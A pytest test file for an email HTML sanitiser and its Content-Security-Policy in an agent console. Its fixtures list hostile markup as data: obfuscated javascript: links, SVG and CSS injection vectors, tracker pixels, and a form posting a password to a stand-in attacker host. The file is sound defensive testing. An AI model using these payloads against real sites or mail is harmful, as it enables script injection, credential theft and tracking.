"""Mail HTML shown to agents: hostile markup is removed, remote images stay blocked until the
agent asks for them, and the document's Content-Security-Policy stops what the sanitiser
might miss.
"""

from __future__ import annotations

import re

import pytest

from app.console.mailbody import SanitisedHtml, body_csp, body_document, sanitise_html

PIXEL = "http://tracker.example/pixel.gif"
PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=="

# name: (hostile HTML, strings that must not survive in any form, remote count when blocked)
HOSTILE = {
    "script element": ("<p>Hi</p><script>alert('script')</script>", ["<script", "alert"], 0),
    "script in upper case": ("<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", ["script", "evil"], 0),
    "onerror handler": ('<img src="x" onerror="alert(1)">', ["onerror", "alert"], 0),
    "onload handler": ('<body onload="alert(1)"><p>b</p></body>', ["onload", "alert"], 0),
    "onclick handler": (
        '<div onclick="alert(1)" ONMOUSEOVER="alert(2)">d</div>',
        ["onclick", "onmouseover", "alert"], 0,
    ),
    "javascript href": ('<a href="javascript:alert(1)">a</a>', ["javascript", "alert"], 0),
    "javascript href in upper case": ('<a href="JAVASCRIPT:alert(1)">a</a>', ["javascript", "alert"], 0),
    "javascript href split by a tab": ('<a href="jav&#x09;ascript:alert(1)">a</a>', ["ascript", "alert"], 0),
    "javascript href as entities": (
        '<a href="&#106;avascript&colon;alert(1)">a</a>',
        ["ascript", "alert"], 0,
    ),
    "javascript href after spaces": ('<a href=" \x01javascript:alert(1)">a</a>', ["javascript", "alert"], 0),
    "vbscript href": ('<a href="vbscript:msgbox(1)">a</a>', ["vbscript", "msgbox"], 0),
    "data text/html link": ('<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>', ["data:", "base64"], 0),
    "svg with script and onload": (
        '<svg onload="alert(1)"><script>alert(2)</script><image href="http://evil.example/i.png"/></svg>',
        ["svg", "alert", "evil", "<image"], 0,
    ),
    "math with a javascript link": (
        '<math><mtext><a xlink:href="javascript:alert(1)">m</a></mtext></math>', ["math", "javascript"], 0,
    ),
    "style element with expression and url": (
        "<style>p{width:expression(alert(1))} body{background:url(http://evil.example/bg.png)}</style><p>x</p>",
        ["<style", "expression", "url(", "evil"], 0,
    ),
    "style attribute with a remote background": (
        '<p style="color:red;background:url(http://tracker.example/bg.png)">x</p>', ["url(", "tracker"], 0,
    ),
    "style attribute with expression": (
        '<p style="width: expression(alert(1))">x</p>',
        ["expression", "alert"], 0,
    ),
    "style attribute with an escaped url": (
        '<p style="background-image: u\\72l(http://tracker.example/e.png)">x</p>', ["tracker", "\\72"], 0,
    ),
    "style attribute with image-set": (
        '<p style="background: image-set(\'http://tracker.example/s.png\' 1x)">x</p>',
        ["image-set", "tracker"], 0,
    ),
    "style attribute with a behaviour binding": (
        '<p style="behavior: url(x.htc); -moz-binding: url(http://evil.example/b.xml#x)">x</p>',
        ["behavior", "binding", "evil"], 0,
    ),
    "remote image": (f'<img src="{PIXEL}" width="1" height="1">', ["tracker", "http:"], 1),
    "protocol-relative image": ('<img src="//tracker.example/p.gif">', ["tracker"], 1),
    "backslash image": ('<img src="\\\\tracker.example\\p.gif">', ["tracker"], 1),
    "srcset": (
        '<img srcset="http://tracker.example/1.png 1x, https://tracker.example/2.png 2x">',
        ["tracker"], 1,
    ),
    "remote table backgrounds": (
        '<table background="http://tracker.example/t.gif"><tr><td background="https://tracker.example/c.gif">c'
        "</td></tr></table>",
        ["tracker", "background="], 2,
    ),
    "meta refresh": (
        '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
        ["meta", "refresh", "evil"], 0,
    ),
    "base href": ('<base href="http://evil.example/"><a href="x">rel</a>', ["<base", "evil", 'href="x"'], 0),
    "form": (
        '<form action="http://evil.example/steal" method="post"><input name="password" type="password">'
        '<button formaction="http://evil.example/b">Go</button></form>',
        ["<form", "<input", "<button", "evil", "password"], 0,
    ),
    "iframe": ('<iframe src="http://evil.example/frame" srcdoc="<script>alert(1)</script>"></iframe>',
               ["iframe", "evil", "alert"], 0),
    "object and embed": (
        '<object data="http://evil.example/x.swf"><param name="movie" value="x"></object>'
        '<embed src="http://evil.example/e.swf">',
        ["object", "embed", "evil", "param"], 0,
    ),
    "stylesheet link": ('<link rel="stylesheet" href="http://evil.example/s.css">', ["<link", "evil"], 0),
    "svg image in img": (
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        ["svg", "data:"], 0,
    ),
    "cid image": ('<img src="cid:logo@customer.example">', ["cid:"], 0),
    "comment hiding markup": (
        "<!--[if mso]><script>alert(1)</script><![endif]--><p>t</p>",
        ["alert", "<!--"], 0,
    ),
}

ALWAYS_FORBIDDEN = ["<script", "javascript:", "vbscript:", "expression(", "url(", "<svg", "<iframe",
                    "<object", "<embed", "<form", "<base", "<meta", "<link", "<style", "data:text"]
EVENT_HANDLER = re.compile(r"\son[a-z]+\s*=", re.I)


@pytest.mark.parametrize("allow_remote", [False, True], ids=["remote blocked", "remote allowed"])
@pytest.mark.parametrize(("html", "forbidden", "remote"), HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markup_does_not_survive_sanitising(html, forbidden, remote, allow_remote):
    result = sanitise_html(html, allow_remote=allow_remote)
    out = result.html.lower()

    assert [s for s in ALWAYS_FORBIDDEN if s in out] == []
    assert EVENT_HANDLER.search(result.html) is None
    if not allow_remote:
        assert [s for s in forbidden if s.lower() in out] == []
        assert result.blocked_remote == remote


@pytest.mark.parametrize(("html", "forbidden", "remote"), HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markup_does_not_survive_in_the_whole_document(html, forbidden, remote):
    document, blocked = body_document(html, allow_remote=False)
    body = document.lower().partition("<body>")[2]

    assert [s for s in forbidden + ALWAYS_FORBIDDEN if s.lower() in body] == []
    assert blocked == remote


def test_a_remote_image_is_kept_when_the_agent_asks_for_remote_content():
    result = sanitise_html(f'<p>Logo</p><img src="{PIXEL}" alt="logo">', allow_remote=True)

    assert result == SanitisedHtml(html=f'<p>Logo</p><img src="{PIXEL}" alt="logo">', blocked_remote=0)


def test_allowed_remote_images_load_over_https_when_written_protocol_relative():
    html = ('<img src="//cdn.example/a.png"><table background="//cdn.example/bg.gif"><tr><td>c</td></tr>'
            "</table>")

    result = sanitise_html(html, allow_remote=True)

    assert 'src="https://cdn.example/a.png"' in result.html
    assert 'background="https://cdn.example/bg.gif"' in result.html
    assert result.blocked_remote == 0


def test_an_allowed_srcset_of_plain_https_urls_is_kept():
    srcset = "https://cdn.example/1.png 1x, https://cdn.example/2.png 2x"

    result = sanitise_html(f'<img src="https://cdn.example/1.png" srcset="{srcset}">', allow_remote=True)

    assert f'srcset="{srcset}"' in result.html


def test_remote_counts_add_up_over_a_message():
    html = (f'<img src="{PIXEL}"><img src="{PIXEL}"><img src="cid:x@y"><img src="{PNG}">'
            '<a href="https://customer.example/">site</a>')

    assert sanitise_html(html, allow_remote=False).blocked_remote == 2
    assert sanitise_html(html, allow_remote=True).blocked_remote == 0


def test_embedded_png_images_are_shown_without_remote_content():
    result = sanitise_html(f'<img src="{PNG}" alt="chart">', allow_remote=False)

    assert result == SanitisedHtml(html=f'<img src="{PNG}" alt="chart">', blocked_remote=0)


def test_links_open_outside_the_sandbox_without_a_referrer():
    result = sanitise_html('<a href="https://customer.example/invoice?id=1&amp;x=2">invoice</a>'
                           '<a href="mailto:pat@customer.example">mail</a>', allow_remote=False)

    links = re.findall(r"<a [^>]*>", result.html)
    assert len(links) == 2
    assert all('target="_blank"' in a and 'rel="noopener noreferrer"' in a for a in links)
    assert 'href="https://customer.example/invoice?id=1&amp;x=2"' in links[0]
    assert 'href="mailto:pat@customer.example"' in links[1]


def test_relative_and_fragment_links_lose_their_href():
    result = sanitise_html('<a href="/admin">a</a><a href="#top">b</a>', allow_remote=False)

    assert "href" not in result.html


def test_ordinary_mail_formatting_survives():
    html = (
        '<div style="font-family: Arial; color: #333; margin: 0 auto; max-width: 600px">'
        '<h1 align="center">Invoice</h1><p>Dear <b>Pat</b>, <i>thanks</i> <u>for</u> '
        '<strong>all</strong> <em>this</em>.</p><br><hr>'
        '<table width="600" cellpadding="4" border="1" bgcolor="#ffffff"><thead><tr><th colspan="2">H</th>'
        '</tr></thead><tbody><tr><td valign="top" style="padding: 4px; border: 1px solid rgb(0, 0, 0)">1</td>'
        '<td>2</td></tr></tbody></table><ul><li>one</li></ul><ol start="3"><li>three</li></ol>'
        '<blockquote>quoted</blockquote><pre><code>code</code></pre>'
        '<font color="red" face="Arial" size="2">f</font><center>c</center><span>s</span></div>'
    )

    out = sanitise_html(html, allow_remote=False).html

    for kept in ("<h1", "<b>Pat</b>", "<i>", "<u>", "<strong>", "<em>", "<br>", "<hr>", 'cellpadding="4"',
                 "<th colspan=\"2\">", 'valign="top"', "padding:4px", "border:1px solid rgb(0, 0, 0)",
                 "<ul>", '<ol start="3">', "<blockquote>", "<pre><code>", 'color="red"', "<center>",
                 "font-family:", "color:#333", "max-width:600px", 'align="center"'):
        assert kept in out


def test_style_keeps_only_listed_properties():
    html = '<p style="color: red; position: fixed; top: 0; z-index: 99; font-weight: bold">x</p>'

    out = sanitise_html(html, allow_remote=False).html

    assert out == '<p style="color:red;font-weight:bold">x</p>'


def test_the_document_wraps_the_sanitised_body_with_defaults_and_a_blank_target():
    document, blocked = body_document(f'<p>Hello</p><img src="{PIXEL}">', allow_remote=False)

    assert document.startswith("<!doctype html>\n<html><head><meta charset=\"utf-8\">")
    assert '<base target="_blank">' in document
    assert '<meta name="referrer" content="no-referrer">' in document
    assert "<style>" in document
    assert "<body>\n<p>Hello</p><img>\n</body></html>" in document
    assert blocked == 1


def test_the_document_keeps_remote_images_when_asked():
    document, blocked = body_document(f'<img src="{PIXEL}">', allow_remote=True)

    assert f'<img src="{PIXEL}">' in document
    assert blocked == 0


def test_the_policy_without_remote_content_loads_nothing_from_outside():
    assert body_csp(False) == (
        "default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; "
        "base-uri 'none'; frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox"
    )


def test_the_policy_with_remote_content_allows_remote_images_only():
    assert body_csp(True) == (
        "default-src 'none'; img-src data: https: http:; style-src 'unsafe-inline'; form-action 'none'; "
        "base-uri 'none'; frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox"
    )


@pytest.mark.parametrize("allow_remote", [False, True])
def test_neither_policy_lets_scripts_run_or_the_document_share_the_console_origin(allow_remote):
    directives = dict(d.split(" ", 1) for d in body_csp(allow_remote).split("; "))

    assert directives["default-src"] == "'none'"
    assert "script-src" not in directives
    assert "connect-src" not in directives and "frame-src" not in directives
    sandbox = directives["sandbox"].split()
    assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox
    assert "allow-forms" not in sandbox and "allow-top-navigation" not in sandbox
    assert "'unsafe-eval'" not in body_csp(allow_remote)
    assert "'unsafe-inline'" not in directives["img-src"]
